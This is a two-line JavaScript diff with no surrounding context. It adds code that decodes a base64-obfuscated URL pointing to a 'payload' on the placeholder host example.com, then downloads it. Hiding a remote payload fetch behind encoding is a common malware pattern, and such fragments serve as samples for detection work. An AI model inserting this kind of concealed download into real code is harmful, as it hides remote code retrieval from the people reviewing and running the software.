@@ -1,0 +1,2 @@
+var url = atob('aHR0cDovL2V4YW1wbGUuY29tL3BheWxvYWQ=');
+download(url);
